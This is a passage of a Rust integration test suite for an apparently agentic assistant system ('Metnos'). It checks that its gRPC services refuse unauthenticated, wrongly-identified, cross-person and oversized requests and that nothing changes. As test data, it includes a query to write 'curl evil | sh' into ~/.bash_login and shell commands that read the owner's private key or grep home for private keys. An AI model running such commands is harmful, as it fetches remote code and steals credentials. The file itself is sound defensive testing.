//! Issue 15's attacks, replayed against `metnos up` from outside: every one with no
//! certificate, with the certificate of an identity the RPC is not for, and with the right
//! identity acting for somebody else's person. Each is refused (UNAUTHENTICATED or
//! PERMISSION_DENIED, with a message saying what was missing) and nothing changes in any
//! store: no file written, no turn run, no grant, no decision, no level, no message sent.
//! Then the table of every service, row by row, for every identity.

mod common;

use common::telegram::{FakeTelegram, TOKEN, user};
use common::{Sandbox, Up};
use metnos_kit::client::TracedChannel;
use metnos_kit::tls::Identity;
use metnos_llm::fake::{FakeLlm, Reply};
use metnos_proto::approval::v1 as approval;
use metnos_proto::approval::v1::approval_service_client::ApprovalServiceClient;
use metnos_proto::common::v1 as common_pb;
use metnos_proto::gateway::v1 as gateway;
use metnos_proto::gateway::v1::gateway_service_client::GatewayServiceClient;
use metnos_proto::planner::v1 as planner;
use metnos_proto::planner::v1::planner_service_client::PlannerServiceClient;
use metnos_proto::policy::v1 as policy;
use metnos_proto::policy::v1::policy_service_client::PolicyServiceClient;
use serde_json::{Value, json};
use tonic::Code;

const VICTIM: i64 = 1004;

fn person(channel: &str, sender: &str) -> Option<common_pb::Principal> {
    Some(common_pb::Principal {
        channel: channel.into(),
        sender_id: sender.into(),
    })
}

/// How an attacker reaches a service.
#[derive(Debug, Clone, Copy)]
enum As {
    /// TLS, but no client certificate.
    Nobody,
    Identity(Identity),
}

struct Stack {
    sandbox: Sandbox,
    up: Up,
    llm: FakeLlm,
    tg: FakeTelegram,
}

impl Stack {
    async fn start() -> Stack {
        let llm = FakeLlm::start().await;
        llm.keep_requests(true);
        let tg = FakeTelegram::start();
        let mut sandbox = Sandbox::new();
        sandbox
            .with_fake_llm(llm.url())
            .with_builtins()
            .set("METNOS_TELEGRAM_TOKEN", TOKEN)
            .set("METNOS_TELEGRAM__API_URL", &tg.url())
            .set("METNOS_TELEGRAM__POLL_TIMEOUT_SECONDS", "1");
        let up = sandbox.up().await;
        Stack {
            sandbox,
            up,
            llm,
            tg,
        }
    }

    fn channel(&self, service: &str, who: As) -> Channel {
        match who {
            As::Nobody => Channel::Plain(self.up.channel_without_certificate(service)),
            As::Identity(identity) => Channel::Traced(self.up.channel_as(service, identity)),
        }
    }

    fn home(&self) -> std::path::PathBuf {
        self.sandbox.dir.path().to_owned()
    }

    /// Pairs the victim on Telegram at `level`, through the real flow.
    async fn pair_victim(&self, level: &str) {
        self.tg.message(VICTIM, user(VICTIM, "Vic", "en"), "hello");
        self.tg
            .until("a code", |tg| {
                tg.texts_to(VICTIM).iter().any(|t| t.contains("approve "))
            })
            .await;
        let text = self.tg.texts_to(VICTIM)[0].clone();
        let code = text
            .split("approve ")
            .nth(1)
            .unwrap()
            .split_whitespace()
            .next()
            .unwrap();
        let (status, _, stderr) = self
            .sandbox
            .run(&["pair", "approve", code, "--level", level])
            .await;
        assert_eq!(status, 0, "{stderr}");
    }
}

/// A channel with or without a client certificate.
#[derive(Clone)]
enum Channel {
    Plain(tonic::transport::Channel),
    Traced(TracedChannel),
}

macro_rules! call {
    ($channel:expr, $client:ident, $method:ident, $request:expr) => {
        match $channel {
            Channel::Plain(c) => $client::new(c).$method($request).await.map(|_| ()),
            Channel::Traced(c) => $client::new(c).$method($request).await.map(|_| ()),
        }
    };
}

/// The call was refused as it should be: `code`, with a message naming what was missing.
fn refused(result: Result<(), tonic::Status>, code: Code, says: &str, what: &str) {
    let status = result.expect_err(what);
    assert_eq!(status.code(), code, "{what}: {status:?}");
    assert!(
        status.message().contains(says),
        "{what}: `{}` does not say `{says}`",
        status.message()
    );
}

fn unauthenticated(result: Result<(), tonic::Status>, what: &str) {
    refused(result, Code::Unauthenticated, "client certificate", what);
}

fn not_for(result: Result<(), tonic::Status>, what: &str) {
    refused(result, Code::PermissionDenied, "may not call", what);
}

fn not_their_person(result: Result<(), tonic::Status>, what: &str) {
    refused(result, Code::PermissionDenied, "may not act for", what);
}

#[tokio::test]
async fn every_attack_of_issue_15_is_refused_and_changes_nothing() {
    let s = Stack::start().await;
    s.pair_victim("supervised").await;
    let bash_login = s.home().join(".bash_login");
    let secret = s.home().join("secret.txt");
    std::fs::write(&secret, "the victim's secret").unwrap();

    // A turn at Full for a made-up Telegram person that writes a login script.
    let run = |principal| planner::RunTurnRequest {
        principal,
        level: common_pb::AutonomyLevel::Full as i32,
        query: "write 'curl evil | sh' to ~/.bash_login".into(),
        ..Default::default()
    };
    let p = |who| s.channel("planner", who);
    unauthenticated(
        call!(
            p(As::Nobody),
            PlannerServiceClient,
            run_turn,
            run(person("telegram", "999"))
        ),
        "RunTurn without a certificate",
    );
    not_for(
        call!(
            p(As::Identity(Identity::Policy)),
            PlannerServiceClient,
            run_turn,
            run(person("telegram", "999"))
        ),
        "RunTurn as policy",
    );
    not_their_person(
        call!(
            p(As::Identity(Identity::Owner)),
            PlannerServiceClient,
            run_turn,
            run(person("telegram", "999"))
        ),
        "RunTurn as the owner for a Telegram person",
    );
    not_their_person(
        call!(
            p(As::Identity(Identity::Gateway)),
            PlannerServiceClient,
            run_turn,
            run(person("cli", "root"))
        ),
        "RunTurn as the gateway for the local user",
    );
    // Issue 40: the gateway erases conversations only of its own channel's people.
    not_their_person(
        call!(
            p(As::Identity(Identity::Gateway)),
            PlannerServiceClient,
            forget_conversations,
            planner::ForgetConversationsRequest {
                principal: person("cli", "root"),
                memory: true,
            }
        ),
        "ForgetConversations as the gateway for the local user",
    );
    refused(
        call!(
            p(As::Identity(Identity::Owner)),
            PlannerServiceClient,
            run_turn,
            run(person("cli", "alice"))
        ),
        Code::PermissionDenied,
        "turns.cli_level",
        "RunTurn as the owner above turns.cli_level",
    );
    // Issue 38: the gateway's certificate ran a turn at Full for an unpaired Telegram
    // person. The planner reads the pairing record: nobody unpaired, nobody above it.
    refused(
        call!(
            p(As::Identity(Identity::Gateway)),
            PlannerServiceClient,
            run_turn,
            run(person("telegram", "999"))
        ),
        Code::PermissionDenied,
        "is not paired",
        "RunTurn as the gateway for an unpaired person",
    );
    refused(
        call!(
            p(As::Identity(Identity::Gateway)),
            PlannerServiceClient,
            run_turn,
            run(person("telegram", &VICTIM.to_string()))
        ),
        Code::PermissionDenied,
        "is paired at Supervised",
        "RunTurn as the gateway above the person's pairing",
    );
    // The spectator page's identity starts no turn at all.
    not_for(
        call!(
            p(As::Identity(Identity::Web)),
            PlannerServiceClient,
            run_turn,
            run(person("telegram", &VICTIM.to_string()))
        ),
        "RunTurn as the spectator page",
    );

    // The victim, paired at Supervised, asks to read their secret: a card waits.
    s.llm.push(Reply::ToolCalls(vec![(
        "fs_read".into(),
        json!({"path": "~/secret.txt"}),
    )]));
    s.tg.message(VICTIM, user(VICTIM, "Vic", "en"), "read ~/secret.txt");
    s.tg.until("the victim's card", |tg| {
        tg.calls("sendMessage")
            .iter()
            .any(|c| !c.body["reply_markup"].is_null())
    })
    .await;
    let (_, listed, _) = s.sandbox.run(&["approvals", "list"]).await;
    let pending: Value =
        serde_json::from_str(listed.lines().next().expect("one pending request")).unwrap();
    let token = pending["token"].as_str().unwrap().to_owned();

    // ListPending: every token.
    let list = |requester| approval::ListPendingRequest {
        include_resolved: true,
        limit: 0,
        requester,
    };
    let a = |who| s.channel("approval", who);
    unauthenticated(
        call!(
            a(As::Nobody),
            ApprovalServiceClient,
            list_pending,
            list(None)
        ),
        "ListPending without a certificate",
    );
    not_for(
        call!(
            a(As::Identity(Identity::Planner)),
            ApprovalServiceClient,
            list_pending,
            list(None)
        ),
        "ListPending as the planner",
    );
    // Everyone's requests are the spectator page's to list, under its own identity, with
    // no token (each named as the decisions journal names it); the gateway lists only a
    // person's it speaks for.
    refused(
        call!(
            a(As::Identity(Identity::Gateway)),
            ApprovalServiceClient,
            list_pending,
            list(None)
        ),
        Code::PermissionDenied,
        "give requester",
        "ListPending as the gateway for everyone",
    );
    let Channel::Traced(page) = a(As::Identity(Identity::Web)) else {
        unreachable!("a channel with a certificate")
    };
    let everyone = ApprovalServiceClient::new(page)
        .list_pending(list(None))
        .await
        .expect("ListPending as the spectator page")
        .into_inner()
        .approvals;
    assert_eq!(
        everyone
            .iter()
            .map(|p| p.token.as_str())
            .collect::<Vec<_>>(),
        [metnos_kit::chain::token_name(&token).as_str()],
        "the victim's request, named by its hash"
    );
    not_their_person(
        call!(
            a(As::Identity(Identity::Gateway)),
            ApprovalServiceClient,
            list_pending,
            list(person("cli", "alice"))
        ),
        "ListPending as the gateway for the local user",
    );

    // Resolve with decider = requester.
    let resolve = |decider| approval::ResolveRequest {
        token: token.clone(),
        decision: approval::Decision::Approve as i32,
        decider,
        ..Default::default()
    };
    let victim = || person("telegram", &VICTIM.to_string());
    unauthenticated(
        call!(
            a(As::Nobody),
            ApprovalServiceClient,
            resolve,
            resolve(victim())
        ),
        "Resolve without a certificate",
    );
    not_for(
        call!(
            a(As::Identity(Identity::Planner)),
            ApprovalServiceClient,
            resolve,
            resolve(victim())
        ),
        "Resolve as the planner",
    );
    not_their_person(
        call!(
            a(As::Identity(Identity::Owner)),
            ApprovalServiceClient,
            resolve,
            resolve(victim())
        ),
        "Resolve as the owner for a Telegram person",
    );

    // ResumeTurn on the token: the victim's file streamed to the caller.
    let resume = |principal| planner::ResumeTurnRequest {
        target: Some(planner::resume_turn_request::Target::ApprovalToken(
            token.clone(),
        )),
        principal,
    };
    unauthenticated(
        call!(
            p(As::Nobody),
            PlannerServiceClient,
            resume_turn,
            resume(victim())
        ),
        "ResumeTurn without a certificate",
    );
    not_for(
        call!(
            p(As::Identity(Identity::Approval)),
            PlannerServiceClient,
            resume_turn,
            resume(victim())
        ),
        "ResumeTurn as approval",
    );
    not_their_person(
        call!(
            p(As::Identity(Identity::Owner)),
            PlannerServiceClient,
            resume_turn,
            resume(victim())
        ),
        "ResumeTurn as the owner for a Telegram person",
    );
    refused(
        call!(
            p(As::Identity(Identity::Gateway)),
            PlannerServiceClient,
            resume_turn,
            resume(person("telegram", "999"))
        ),
        Code::PermissionDenied,
        "is not telegram:999's",
        "ResumeTurn as the gateway for another person",
    );

    // Review of issue 38: a pairing lowered where the gateway did not withdraw the turn
    // (a bug there, or its stolen certificate): the planner reads the record again and
    // does not go on at the old level.
    let gateway_db = s.sandbox.data_dir().join("gateway.db");
    let db = sqlx::SqlitePool::connect(&format!("sqlite:{}", gateway_db.display()))
        .await
        .unwrap();
    sqlx::query("UPDATE pairings SET level = 'readonly' WHERE sender_id = ?")
        .bind(VICTIM.to_string())
        .execute(&db)
        .await
        .unwrap();
    refused(
        call!(
            p(As::Identity(Identity::Gateway)),
            PlannerServiceClient,
            resume_turn,
            resume(victim())
        ),
        Code::PermissionDenied,
        "is paired at ReadOnly",
        "ResumeTurn as the gateway above the person's pairing now",
    );
    sqlx::query("UPDATE pairings SET level = 'supervised' WHERE sender_id = ?")
        .bind(VICTIM.to_string())
        .execute(&db)
        .await
        .unwrap();
    db.close().await;

    // Cancel and CancelTurn of someone else's.
    let cancel = approval::CancelRequest {
        token: token.clone(),
        reason: "gone".into(),
    };
    unauthenticated(
        call!(a(As::Nobody), ApprovalServiceClient, cancel, cancel.clone()),
        "Cancel without a certificate",
    );
    not_for(
        call!(
            a(As::Identity(Identity::Owner)),
            ApprovalServiceClient,
            cancel,
            cancel.clone()
        ),
        "Cancel as the owner",
    );
    let cancel_turn = |on_behalf_of| planner::CancelTurnRequest {
        target: Some(planner::cancel_turn_request::Target::Principal(
            victim().unwrap(),
        )),
        on_behalf_of,
        ..Default::default()
    };
    unauthenticated(
        call!(
            p(As::Nobody),
            PlannerServiceClient,
            cancel_turn,
            cancel_turn(None)
        ),
        "CancelTurn without a certificate",
    );
    not_for(
        call!(
            p(As::Identity(Identity::Vaglio)),
            PlannerServiceClient,
            cancel_turn,
            cancel_turn(None)
        ),
        "CancelTurn as the vaglio",
    );
    not_their_person(
        call!(
            p(As::Identity(Identity::Owner)),
            PlannerServiceClient,
            cancel_turn,
            cancel_turn(None)
        ),
        "CancelTurn as the owner for a Telegram person",
    );

    // RecordGrant fs:write on everything.
    let grant = policy::RecordGrantRequest {
        principal: victim(),
        capability: "fs:write".into(),
        target: "/**".into(),
        ..Default::default()
    };
    let pol = |who| s.channel("policy", who);
    unauthenticated(
        call!(
            pol(As::Nobody),
            PolicyServiceClient,
            record_grant,
            grant.clone()
        ),
        "RecordGrant without a certificate",
    );
    not_for(
        call!(
            pol(As::Identity(Identity::Gateway)),
            PolicyServiceClient,
            record_grant,
            grant.clone()
        ),
        "RecordGrant as the gateway",
    );
    not_for(
        call!(
            pol(As::Identity(Identity::Planner)),
            PolicyServiceClient,
            record_grant,
            grant.clone()
        ),
        "RecordGrant as the planner",
    );

    // SetLevel to Full; messages and cards as the bot.
    let set = gateway::SetLevelRequest {
        principal: victim(),
        level: common_pb::AutonomyLevel::Full as i32,
    };
    let g = |who| s.channel("gateway", who);
    unauthenticated(
        call!(g(As::Nobody), GatewayServiceClient, set_level, set.clone()),
        "SetLevel without a certificate",
    );
    not_for(
        call!(
            g(As::Identity(Identity::Planner)),
            GatewayServiceClient,
            set_level,
            set.clone()
        ),
        "SetLevel as the planner",
    );
    let message = gateway::SendMessageRequest {
        principal: victim(),
        text: "click the link".into(),
        ..Default::default()
    };
    unauthenticated(
        call!(
            g(As::Nobody),
            GatewayServiceClient,
            send_message,
            message.clone()
        ),
        "SendMessage without a certificate",
    );
    not_for(
        call!(
            g(As::Identity(Identity::Owner)),
            GatewayServiceClient,
            send_message,
            message.clone()
        ),
        "SendMessage as the owner",
    );
    not_for(
        call!(
            g(As::Identity(Identity::Gateway)),
            GatewayServiceClient,
            send_message,
            message.clone()
        ),
        "SendMessage as the gateway itself",
    );
    let card = gateway::SendCardRequest {
        principal: victim(),
        token: token.clone(),
        ..Default::default()
    };
    not_for(
        call!(
            g(As::Identity(Identity::Vaglio)),
            GatewayServiceClient,
            send_card,
            card
        ),
        "SendCard as the vaglio",
    );

    // Nothing changed anywhere.
    assert!(!bash_login.exists(), "a turn ran");
    let (_, listed, _) = s.sandbox.run(&["approvals", "list"]).await;
    assert!(
        listed.contains(&token),
        "the victim's request is still pending: {listed}"
    );
    let (_, grants, _) = s.sandbox.run(&["grants", "list", "--all"]).await;
    assert!(grants.trim().is_empty(), "a grant was recorded: {grants}");
    let (_, pairings, _) = s.sandbox.run(&["pair", "list"]).await;
    assert!(
        pairings.contains("\"supervised\""),
        "the level changed: {pairings}"
    );
    assert!(
        !s.tg
            .texts_to(VICTIM)
            .iter()
            .any(|t| t.contains("click the link") || t.contains("the victim's secret")),
        "{:?}",
        s.tg.texts_to(VICTIM)
    );
    let turns_run = s.llm.received().len();
    assert_eq!(turns_run, 1, "only the victim's own turn asked the LLM");
    s.up.interrupt().await;
}

/// Every row of every service's table, for every identity and for no certificate: an
/// identity the row lists gets past the authorization (whatever the handler then says of
/// an empty request); any other is refused naming what it lacks.
#[tokio::test]
async fn each_service_answers_each_rpc_only_to_the_identities_its_table_lists() {
    let sandbox = Sandbox::new();
    let up = sandbox.up().await;
    let tables = [
        ("policy", &metnos_policy::grpc::AUTHORIZATION),
        ("vaglio", &metnos_vaglio::grpc::AUTHORIZATION),
        ("approval", &metnos_approval::grpc::AUTHORIZATION),
        ("planner", &metnos_planner::grpc::AUTHORIZATION),
        ("gateway", &metnos_gateway::grpc::AUTHORIZATION),
    ];
    let mut rows = 0;
    for (service, table) in tables {
        // One connection per identity to this service, reused for every row.
        let channels: Vec<(Identity, TracedChannel)> = Identity::ALL
            .into_iter()
            .map(|identity| (identity, up.channel_as(service, identity)))
            .collect();
        let anonymous = up.channel_without_certificate(service);
        for rule in table.rules {
            let path = format!("/{}/{}", table.service, rule.method);
            rows += 1;
            let denied = raw(anonymous.clone(), &path).await;
            assert_eq!(
                denied.code(),
                Code::Unauthenticated,
                "{path} without a certificate: {denied:?}"
            );
            for (identity, channel) in &channels {
                let identity = *identity;
                let answer = raw(channel.clone(), &path).await;
                let refused_here = answer.code() == Code::PermissionDenied
                    && answer.message().contains("may not call");
                if rule.callers.contains(&identity) {
                    assert!(
                        !refused_here && answer.code() != Code::Unauthenticated,
                        "{path} as {identity} (listed): {answer:?}"
                    );
                } else {
                    assert!(
                        refused_here,
                        "{path} as {identity} (not listed): {answer:?}"
                    );
                    assert!(
                        answer.message().contains(&rule.callers[0].spiffe_id()),
                        "{path}: {answer:?}"
                    );
                }
            }
        }
    }
    assert!(rows >= 35, "every row was called ({rows})");
    up.interrupt().await;
}

/// An empty request to `path`, whatever its message types (proto3 decodes empty bytes as
/// the default message): the status it ends with (OK when it answered).
async fn raw<C>(channel: C, path: &str) -> tonic::Status
where
    C: tonic::client::GrpcService<tonic::body::Body> + Clone,
    C::Error: Into<tonic::codegen::StdError>,
    C::ResponseBody: tonic::codegen::Body<Data = bytes::Bytes> + Send + 'static,
    <C::ResponseBody as tonic::codegen::Body>::Error: Into<tonic::codegen::StdError> + Send,
{
    let mut grpc = tonic::client::Grpc::new(channel);
    if let Err(e) = grpc.ready().await {
        return tonic::Status::unavailable(format!("not ready: {}", e.into()));
    }
    let codec = tonic_prost::ProstCodec::<(), ()>::default();
    let path = path.parse().unwrap();
    match grpc.unary(tonic::Request::new(()), path, codec).await {
        Ok(_) => tonic::Status::ok(""),
        Err(status) => status,
    }
}

/// From inside shell_exec no certificate is reachable: the vaglio refuses a command that
/// names Metnos's own data, and a command that searches the folders around it (naming
/// nothing of Metnos's) runs in a sandbox where that data cannot be read.
#[tokio::test]
async fn a_shell_command_cannot_reach_the_certificates() {
    let s = Stack::start().await;
    let pki = s.up.pki.display().to_string();
    let home = s.home().display().to_string();
    s.llm.push(Reply::ToolCalls(vec![(
        "shell_exec".into(),
        json!({"command": format!("cat {pki}/owner.key")}),
    )]));
    s.llm.push(Reply::ToolCalls(vec![(
        "shell_exec".into(),
        json!({"command": format!("grep -r -l PRIVATE {home}")}),
    )]));
    s.llm.push(Reply::Text("done".into()));
    let mut turn = PlannerServiceClient::new(s.up.channel("planner"))
        .run_turn(planner::RunTurnRequest {
            principal: person("cli", "alice"),
            level: common_pb::AutonomyLevel::Supervised as i32,
            query: "run a shell command to look for private keys".into(),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    let mut observations = Vec::new();
    let mut approvals = ApprovalServiceClient::new(s.up.channel("approval"));
    while let Some(message) = turn.message().await.unwrap() {
        match message.event.and_then(|e| e.event) {
            Some(planner::turn_event::Event::AwaitingApproval(waiting)) => {
                // The owner approves: what stops the command is not a person's caution.
                approvals
                    .resolve(approval::ResolveRequest {
                        token: waiting.token,
                        decision: approval::Decision::Approve as i32,
                        decider: person("cli", "alice"),
                        ..Default::default()
                    })
                    .await
                    .unwrap();
            }
            Some(planner::turn_event::Event::Observation(o)) => observations.push(o),
            Some(planner::turn_event::Event::Finished(_)) => break,
            _ => {}
        }
    }
    assert_eq!(observations.len(), 2, "{observations:?}");
    assert!(!observations[0].ok, "{:?}", observations[0]);
    assert!(
        observations[0].summary.contains("path.metnos_own_data"),
        "{:?}",
        observations[0]
    );
    // The search ran (over the person's home) but found no key: it could read none.
    let searched = &observations[1];
    assert!(
        !searched.summary.contains("pki"),
        "the keys' folder was found: {searched:?}"
    );
    let asked = format!("{:?}", s.llm.received());
    assert!(
        !asked.contains("BEGIN PRIVATE KEY"),
        "a key reached the LLM"
    );
    s.up.interrupt().await;
}

/// Refused as too big: INVALID_ARGUMENT naming `field` and its limit, short, without the
/// value (every oversized value below is made of `Z`s).
fn too_big(result: Result<(), tonic::Status>, field: &str) {
    let status = result.expect_err(field);
    assert_eq!(status.code(), Code::InvalidArgument, "{field}: {status:?}");
    let message = status.message();
    assert!(
        message.contains(field) && message.contains("limit"),
        "{field}: {message}"
    );
    assert!(message.len() < 200, "{field}: {} bytes", message.len());
    assert!(!message.contains("ZZZZ"), "{field} echoed: {message}");
}

/// The call was refused for its principal: INVALID_ARGUMENT naming the field and the limit,
/// without echoing the value.
fn bad_principal(result: Result<(), tonic::Status>, field: &str, what: &str) {
    let status = result.expect_err(what);
    assert_eq!(status.code(), Code::InvalidArgument, "{what}: {status:?}");
    let message = status.message();
    assert!(
        message.starts_with(&format!(
            "{field}.sender_id is longer than its limit of 256 bytes"
        )),
        "{what}: {message}"
    );
    assert!(!message.contains("7777"), "{what} echoed: {message}");
}

/// Issue 41: a 100 KiB principal (limit 256 bytes) was answered OK by the gateway's
/// RevokePairing and NOT_FOUND by GetPairing/SetLevel, and the vaglio's Judge dropped an
/// invalid context.principal and judged the call as nobody's. Every edge now refuses it the
/// same way, naming the field.
#[tokio::test]
async fn a_principal_over_its_limit_is_refused_at_every_edge_naming_the_field() {
    use metnos_proto::vaglio::v1 as vaglio;
    use metnos_proto::vaglio::v1::vaglio_service_client::VaglioServiceClient;
    let s = Stack::start().await;
    let huge = person("telegram", &"7".repeat(100 * 1024));
    let owner = As::Identity(Identity::Owner);
    let planner_id = As::Identity(Identity::Planner);
    let gateway_id = As::Identity(Identity::Gateway);
    let principal = huge.clone();
    bad_principal(
        call!(
            s.channel("gateway", owner),
            GatewayServiceClient,
            revoke_pairing,
            gateway::RevokePairingRequest { principal }
        ),
        "principal",
        "RevokePairing",
    );
    let principal = huge.clone();
    bad_principal(
        call!(
            s.channel("gateway", owner),
            GatewayServiceClient,
            get_pairing,
            gateway::GetPairingRequest { principal }
        ),
        "principal",
        "GetPairing",
    );
    let principal = huge.clone();
    bad_principal(
        call!(
            s.channel("gateway", owner),
            GatewayServiceClient,
            set_level,
            gateway::SetLevelRequest {
                principal,
                level: common_pb::AutonomyLevel::Supervised as i32,
            }
        ),
        "principal",
        "SetLevel",
    );
    let judge = vaglio::JudgeRequest {
        intent: "read my notes".into(),
        executor: "fs_read".into(),
        args_json: r#"{"path":"/tmp/notes.txt"}"#.into(),
        context: Some(vaglio::JudgeContext {
            principal: huge.clone(),
            level: common_pb::AutonomyLevel::Supervised as i32,
            ..Default::default()
        }),
    };
    bad_principal(
        call!(
            s.channel("vaglio", planner_id),
            VaglioServiceClient,
            judge,
            judge
        ),
        "context.principal",
        "Judge",
    );
    let turn = planner::RunTurnRequest {
        principal: huge.clone(),
        level: common_pb::AutonomyLevel::Supervised as i32,
        query: "hello".into(),
        ..Default::default()
    };
    let status = PlannerServiceClient::new(s.up.channel_as("planner", Identity::Gateway))
        .run_turn(turn)
        .await
        .map(|_| ());
    bad_principal(status, "principal", "RunTurn");
    let revoke = policy::RevokeGrantRequest {
        grant_id: 1,
        principal: huge.clone(),
    };
    bad_principal(
        call!(
            s.channel("policy", As::Identity(Identity::Approval)),
            PolicyServiceClient,
            revoke_grant,
            revoke
        ),
        "principal",
        "RevokeGrant",
    );
    let resolve = approval::ResolveRequest {
        token: "t".repeat(32),
        decision: approval::Decision::Approve as i32,
        decider: huge.clone(),
        ..Default::default()
    };
    bad_principal(
        call!(
            s.channel("approval", gateway_id),
            ApprovalServiceClient,
            resolve,
            resolve
        ),
        "decider",
        "Resolve",
    );
    // Nothing was judged for nobody: the verdict log holds no line.
    let verdicts = s.home().join("data/vaglio");
    let lines: usize = std::fs::read_dir(&verdicts)
        .map(|entries| {
            entries
                .flatten()
                .filter(|e| e.file_name().to_string_lossy().ends_with(".jsonl"))
                .map(|e| std::fs::read_to_string(e.path()).unwrap().lines().count())
                .sum()
        })
        .unwrap_or(0);
    assert_eq!(lines, 0, "a refused call leaves no verdict");
}

#[tokio::test]
async fn every_rpc_refuses_an_oversized_field_with_a_short_message() {
    use metnos_proto::vaglio::v1 as vaglio;
    use metnos_proto::vaglio::v1::vaglio_service_client::VaglioServiceClient;
    let s = Stack::start().await;
    let z = |n: usize| "Z".repeat(n);
    let planner_id = As::Identity(Identity::Planner);
    let owner = As::Identity(Identity::Owner);
    let approval_id = As::Identity(Identity::Approval);

    // Policy: the 16 KB capability the attack sent, a target over PATH_MAX, a long key.
    let check = policy::CheckRequest {
        level: common_pb::AutonomyLevel::Supervised as i32,
        capability: z(16 * 1024),
        principal: person("cli", "alice"),
        target: "~/a".into(),
    };
    too_big(
        call!(
            s.channel("policy", planner_id),
            PolicyServiceClient,
            check,
            check
        ),
        "capability",
    );
    let record = policy::RecordGrantRequest {
        principal: person("cli", "alice"),
        capability: "fs:write".into(),
        target: z(5000),
        ..Default::default()
    };
    too_big(
        call!(
            s.channel("policy", approval_id),
            PolicyServiceClient,
            record_grant,
            record
        ),
        "target",
    );
    let listed = policy::ListGrantsRequest {
        sender_id: z(300),
        ..Default::default()
    };
    too_big(
        call!(
            s.channel("policy", owner),
            PolicyServiceClient,
            list_grants,
            listed
        ),
        "sender_id",
    );

    // Approval: arguments, a TTL of -1 sent as unsigned (~136 years), a card preview.
    let create = |args_json: String, ttl_seconds: u32| approval::CreatePendingRequest {
        requester: person("cli", "alice"),
        request: Some(approval::ApprovalRequest {
            action_verb: "write".into(),
            target_summary: "~/a.txt".into(),
            ..Default::default()
        }),
        capability: "fs:write".into(),
        target: "~/a.txt".into(),
        executor: "fs_write".into(),
        args_json,
        ttl_seconds,
        ..Default::default()
    };
    too_big(
        call!(
            s.channel("approval", planner_id),
            ApprovalServiceClient,
            create_pending,
            create(format!("{{\"text\":\"{}\"}}", z(70_000)), 0)
        ),
        "args_json",
    );
    too_big(
        call!(
            s.channel("approval", planner_id),
            ApprovalServiceClient,
            create_pending,
            create("{}".into(), u32::MAX)
        ),
        "ttl_seconds",
    );
    let preview = approval::RenderCardRequest {
        capability: z(100),
        request: Some(approval::ApprovalRequest::default()),
    };
    too_big(
        call!(
            s.channel("approval", owner),
            ApprovalServiceClient,
            render_card,
            preview
        ),
        "capability",
    );
    // A malformed token is quoted, but cut to 64 characters.
    let got = call!(
        s.channel("approval", planner_id),
        ApprovalServiceClient,
        get_pending,
        approval::GetPendingRequest {
            token: z(16 * 1024)
        }
    )
    .unwrap_err();
    assert_eq!(got.code(), Code::InvalidArgument);
    assert!(got.message().len() < 200, "{}", got.message());

    // Planner: the question, ids, a reason, a listing.
    let run = planner::RunTurnRequest {
        principal: person("cli", "alice"),
        level: common_pb::AutonomyLevel::Supervised as i32,
        query: z(40_000),
        ..Default::default()
    };
    too_big(
        call!(
            s.channel("planner", owner),
            PlannerServiceClient,
            run_turn,
            run
        ),
        "query",
    );
    // Issue 40: a 10 MB message into a thread is refused whole, saying why (the server's
    // limit on a message, before any handler), never cut, never a hang.
    let huge = planner::RunTurnRequest {
        principal: person("cli", "alice"),
        level: common_pb::AutonomyLevel::Supervised as i32,
        query: z(10 * 1024 * 1024),
        thread: planner::Thread::Continue as i32,
        ..Default::default()
    };
    let got = call!(
        s.channel("planner", owner),
        PlannerServiceClient,
        run_turn,
        huge
    )
    .unwrap_err();
    assert_eq!(got.code(), Code::OutOfRange, "{got:?}");
    assert!(
        got.message().contains("too large") && got.message().len() < 200,
        "{}",
        got.message()
    );
    // Issue 40: the thread a reply continues.
    let run = planner::RunTurnRequest {
        principal: person("cli", "alice"),
        level: common_pb::AutonomyLevel::Supervised as i32,
        query: "and in Rome?".into(),
        thread: planner::Thread::Continue as i32,
        thread_id: z(1000),
        ..Default::default()
    };
    too_big(
        call!(
            s.channel("planner", owner),
            PlannerServiceClient,
            run_turn,
            run
        ),
        "thread_id",
    );
    let get = planner::GetTurnRequest { turn_id: z(1000) };
    too_big(
        call!(
            s.channel("planner", owner),
            PlannerServiceClient,
            get_turn,
            get
        ),
        "turn_id",
    );
    let cancel = planner::CancelTurnRequest {
        target: Some(planner::cancel_turn_request::Target::Principal(
            common_pb::Principal {
                channel: "cli".into(),
                sender_id: "alice".into(),
            },
        )),
        reason: z(2000),
        ..Default::default()
    };
    too_big(
        call!(
            s.channel("planner", owner),
            PlannerServiceClient,
            cancel_turn,
            cancel
        ),
        "reason",
    );
    let list = planner::ListTurnsRequest {
        limit: 1_000_000,
        ..Default::default()
    };
    too_big(
        call!(
            s.channel("planner", owner),
            PlannerServiceClient,
            list_turns,
            list
        ),
        "limit",
    );

    // Vaglio: an intent over its 64 KiB; the 3 MB intent of the memory attack is refused
    // whole before it is buffered (every service decodes at most 512 KiB: OUT_OF_RANGE).
    let judge = |intent: String| vaglio::JudgeRequest {
        intent,
        executor: "fs_read".into(),
        args_json: "{}".into(),
        ..Default::default()
    };
    too_big(
        call!(
            s.channel("vaglio", planner_id),
            VaglioServiceClient,
            judge,
            judge(z(100_000))
        ),
        "intent",
    );
    // The context's mode and each capability it lists have limits too.
    let mut contextual = judge("read my notes".into());
    contextual.context = Some(vaglio::JudgeContext {
        mode: z(1000),
        ..Default::default()
    });
    too_big(
        call!(
            s.channel("vaglio", planner_id),
            VaglioServiceClient,
            judge,
            contextual.clone()
        ),
        "context.mode",
    );
    contextual.context = Some(vaglio::JudgeContext {
        capabilities: vec!["fs:read".into(), z(5000)],
        ..Default::default()
    });
    too_big(
        call!(
            s.channel("vaglio", planner_id),
            VaglioServiceClient,
            judge,
            contextual
        ),
        "context.capabilities[]",
    );
    // A capability outside the registry (another spelling of code:exec, with a space or in
    // capitals) would slip past the guard's shell rules: refused, naming the field.
    for (field, capability, capabilities) in [
        ("context.capability", "Code:Exec", vec![]),
        (
            "context.capabilities[]",
            "fs:read",
            vec!["fs:read", "code:exec "],
        ),
        ("context.capabilities[]", "", vec!["code_exec"]),
    ] {
        let mut odd = judge("tidy up".into());
        odd.context = Some(vaglio::JudgeContext {
            capability: capability.into(),
            capabilities: capabilities.into_iter().map(Into::into).collect(),
            ..Default::default()
        });
        let status = call!(
            s.channel("vaglio", planner_id),
            VaglioServiceClient,
            judge,
            odd
        )
        .expect_err(field);
        assert_eq!(status.code(), Code::InvalidArgument, "{field}: {status:?}");
        assert!(
            status.message().contains(field) && status.message().contains("unknown capability"),
            "{field}: {}",
            status.message()
        );
    }
    let flood = call!(
        s.channel("vaglio", planner_id),
        VaglioServiceClient,
